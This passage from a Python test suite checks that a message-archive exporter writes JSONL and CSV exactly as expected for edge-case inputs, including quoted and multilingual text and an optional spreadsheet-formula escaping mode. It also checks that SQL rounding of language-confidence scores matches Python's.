    user = {"text", "channel", "channel_title", "author", "forwarded_from"}
    cells: list[Any] = []
    for name in CSV_COLUMNS:
        value = record[name]
        if value is None:
            value = ""
        elif isinstance(value, bool):
            value = "true" if value else "false"
        elif isinstance(value, list | dict):
            value = json.dumps(value, ensure_ascii=False, separators=(",", ":"))
        elif safe and name in user and value.startswith(("=", "+", "-", "@", "\t", "\r", "'")):
            value = "'" + value
        cells.append(value)
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(cells)
    return out.getvalue()


async def hostile_archive(archive: SqliteArchive) -> None:
    await archive.upsert_channel(A, "chan_a", '=Канал, "А"')
    await archive.upsert_channel(B, None, "-Б\nканал")
    posts = []
    for n, conf in enumerate(CONFIDENCES * 2):
        text = HOSTILE[n % len(HOSTILE)]
        raw = RawPost(
            A if n % 2 else B,
            n + 1,
            at(n),
            text,
            (Entity("bold", 0, 1), Entity("text_link", 1, 2, 'https://x.example/"a",b')) if n % 3 else (),
            views=None if n % 4 else n,
            reactions={"🔥": n, 'a"b,c': 1} if n % 5 == 1 else ({} if n % 5 == 2 else None),
            media_type="photo" if n % 2 else None,
            forwarded_from=HOSTILE[(n + 3) % len(HOSTILE)] or None,
            reply_to=n if n % 3 == 0 else None,
            author=HOSTILE[(n + 4) % len(HOSTILE)] or None,
            service_action="pin_message" if n == 5 else None,
        )
        tags = ("#тег", '#"x"') if n % 2 else ()
        posts.append(ProcessedPost(raw, "ru" if n % 3 else "en", conf, tags, f"{n:064x}"))
    await archive.save_posts(posts)
    edited = posts[3].raw
    await archive.save_posts(
        [
            ProcessedPost(
                replace(edited, text=edited.text + ' "v2"', edit_date=at(30)), "ru", 0.7, (), "f" * 64
            )
        ]
    )
    await archive.mark_deleted(B, [2], at(40))
    store = SubscriptionStore(archive)
    await store.upsert_subscriber(1, 1, "ru")
    first = await store.add_query(1, 'мир "quoted", x')
    again = await store.add_query(1, 'мир "quoted", x')  # the same text twice: listed once
    other = await store.add_query(1, "другой")
    await store.record_alerts(
        [AlertRecord(1, 1, A, 2, f"{A}:2", (other.id, again.id, first.id), {}, alert=False, stored_at=0.0)]
    )


async def references(archive: SqliteArchive) -> list[tuple[Post, dict[str, Any]]]:
    found = []
    for post in [p async for p in archive.iter_posts()]:
        matched = await archive._all(
            "SELECT q.text FROM post_matches m JOIN queries q ON q.id = m.query_id JOIN posts p "
            "ON p.id = m.post_id WHERE p.channel_id = ? AND p.message_id = ? ORDER BY q.id",
            (post.channel_id, post.message_id),
        )
        versions = await archive.versions(post.channel_id, post.message_id) if post.versions > 1 else []
        history = [
            {
                "version": v.version,
                "text": v.text,
                "edit_date": v.edit_date and v.edit_date.isoformat().replace("+00:00", "Z"),
                "recorded_at": v.recorded_at.isoformat().replace("+00:00", "Z"),
            }
            for v in versions
        ]
        texts = list(dict.fromkeys(text for (text,) in matched))
        found.append((post, reference_record(post, texts, history)))
    return found


async def test_jsonl_and_csv_are_byte_for_byte_the_reference(archive: SqliteArchive, tmp_path: Path) -> None:
    await hostile_archive(archive)
    expected = await references(archive)
    assert any(r["matched_queries"] for _, r in expected) and any(r["edit_history"] for _, r in expected)
    encode = json.JSONEncoder(ensure_ascii=False, separators=(",", ":")).encode
    await export(archive, "jsonl", tmp_path / "dump.jsonl")
    lines = (tmp_path / "dump.jsonl").read_text(encoding="utf-8").split("\n")
    assert lines[:-1] == [encode(r) for _, r in expected] and lines[-1] == ""
    for safe in (True, False):
        await export(archive, "csv", tmp_path / "dump.csv", csv_safe=safe)
        written = (tmp_path / "dump.csv").read_bytes().decode("utf-8-sig")
        header = ",".join(CSV_COLUMNS) + "\r\n"
        assert written == header + "".join(reference_csv(r, safe=safe) for _, r in expected)


def test_sql_rounding_of_lang_confidence_is_pythons() -> None:
    import sqlite3

    from core.exporters import records

    chance = random.Random(4)
    values = [*CONFIDENCES, 9999.99995, 10_000.0, 1e20, -0.5, 0.00015, 0.00025, 123.45675]
    values += [chance.random() for _ in range(20_000)]
    values += [k / 10_000 + 0.00005 for k in range(0, 10_000, 7)]  # next to every kind of tie
    with sqlite3.connect(":memory:") as conn:
        conn.create_function(records.ROUND4, 1, records.round4, deterministic=True)
        sql = f"SELECT {records._round4_sql('?1')}"
        got = [conn.execute(sql, (v,)).fetchone()[0] for v in values]
    assert got == [repr(round(v, 4)) for v in values]
